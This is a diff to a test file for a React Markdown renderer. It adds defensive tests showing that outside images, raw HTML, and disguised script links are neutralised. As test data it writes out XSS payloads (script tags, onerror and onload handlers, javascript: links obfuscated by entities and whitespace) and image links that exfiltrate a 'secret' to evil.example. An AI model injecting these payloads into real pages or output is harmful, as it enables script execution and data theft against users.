@@ -3,9 +3,13 @@ import { createMemoryRouter, RouterProvider } from "react-router";
 import { describe, expect, it } from "vitest";
 import { Markdown } from "./markdown";
 
-function renderMarkdown(text: string, sources?: { url: string; title?: string }[]) {
+function renderMarkdownIn(text: string, sources?: { url: string; title?: string }[]) {
   const router = createMemoryRouter([{ path: "*", element: <Markdown sources={sources}>{text}</Markdown> }]);
-  render(<RouterProvider router={router} />);
+  return render(<RouterProvider router={router} />);
+}
+
+function renderMarkdown(text: string, sources?: { url: string; title?: string }[]) {
+  renderMarkdownIn(text, sources);
 }
 
 describe("markdown", () => {
@@ -57,5 +61,94 @@ describe("markdown", () => {
     expect(screen.queryByRole("link", { name: "4" })).toBeNull();
     expect(screen.getByText("4").tagName).toBe("SUP");
     expect(screen.getAllByRole("link")).toHaveLength(3);
+  });
+
+  it("shows pictures only from the files the app stores, and names the others without fetching them", () => {
+    const { container } = renderMarkdownIn(
+      [
+        "![chart](/files/u1/chart.png)",
+        "![outside](http://127.0.0.2:9/exfil?c=secret)",
+        "![proxied](/api/image-proxy?url=http%3A%2F%2Fevil.example%2F%3Fc%3Dsecret)",
+        "![dotted](/files/../api/image-proxy?url=http://evil.example/)",
+        "![relative](//evil.example/x.png)",
+        "![svg](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+PC9zdmc+)",
+        "![ref][pic]",
+        "",
+        "[pic]: https://evil.example/ref.png",
+      ].join("\n"),
+    );
+    const images = [...container.querySelectorAll("img")];
+    expect(images.map((img) => img.getAttribute("src"))).toEqual(["/files/u1/chart.png"]);
+    for (const name of ["outside", "proxied", "dotted", "relative", "svg", "ref"])
+      expect(screen.getByText(`[${name}]`).tagName).toBe("SPAN");
+  });
+
+  it("shows raw HTML as text: no script, handler, frame, form or style reaches the page", () => {
+    const html = [
+      "<script>window.__pwned=1</script>",
+      '<img src=x onerror="window.__pwned=2">',
+      '<svg onload="window.__pwned=3"><script>window.__pwned=4</script></svg>',
+      '<iframe src="https://evil.example/"></iframe>',
+      '<form action="https://evil.example/"><button>Go</button></form>',
+      '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
+      "<style>body{background:url(https://evil.example/bg)}</style>",
+      '<a href="javascript:alert(1)">html link</a>',
+    ];
+    const { container } = renderMarkdownIn(html.join("\n\n"));
+    const forbidden = "script, img, svg, iframe, form, meta, style, a, button";
+    expect(container.querySelectorAll(forbidden)).toHaveLength(0);
+    const handlers = [...container.querySelectorAll("*")].flatMap((el) =>
+      el.getAttributeNames().filter((name) => name.startsWith("on") || name === "style"),
+    );
+    expect(handlers).toEqual([]);
+    for (const tag of html) expect(container.textContent).toContain(tag);
+  });
+
+  it("keeps HTML in code as literal text", () => {
+    const { container } = renderMarkdownIn(
+      "Inline `<script>alert(1)</script>` and:\n\n```html\n<img src=x onerror=alert(2)>\n```",
+    );
+    const code = [...container.querySelectorAll("code")].map((c) => c.textContent);
+    expect(code).toEqual(["<script>alert(1)</script>", "<img src=x onerror=alert(2)>\n"]);
+    expect(container.querySelector("img, script")).toBeNull();
+  });
+
+  it("makes disguised script links inert: case, entities, whitespace, references and autolinks", () => {
+    renderMarkdownIn(
+      [
+        "[case](JaVaScRiPt:alert(1))",
+        "[entity](&#106;avascript&colon;alert(1))",
+        "[tab](<java\tscript:alert(1)>)",
+        "[newline](java&#10;script:alert(1))",
+        "[vb](vbscript:msgbox(1))",
+        "[svg](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)",
+        "[ref][evil]",
+        "<javascript:alert(1)>",
+      ].join(" ") + "\n\n[evil]: javascript:alert(1)",
+    );
+    const links = screen.getAllByRole("link");
+    expect(links.map((a) => a.textContent)).toEqual([
+      "case",
+      "entity",
+      "tab",
+      "newline",
+      "vb",
+      "svg",
+      "ref",
+      "javascript:alert(1)",
+    ]);
+    for (const link of links) {
+      expect(link.getAttribute("href")).toBe("#");
+      expect(link.getAttribute("aria-disabled")).toBe("true");
+    }
+  });
+
+  it("renders an answer cut mid-tag while it streams as text at every step", () => {
+    const answer = 'Before <img src=x onerror="window.__pwned=1"> after `<script>x</script>`';
+    for (let end = 1; end <= answer.length; end++) {
+      const { container, unmount } = render(<Markdown caret>{answer.slice(0, end)}</Markdown>);
+      expect(container.querySelector("img, script, [onerror]")).toBeNull();
+      unmount();
+    }
   });
 });
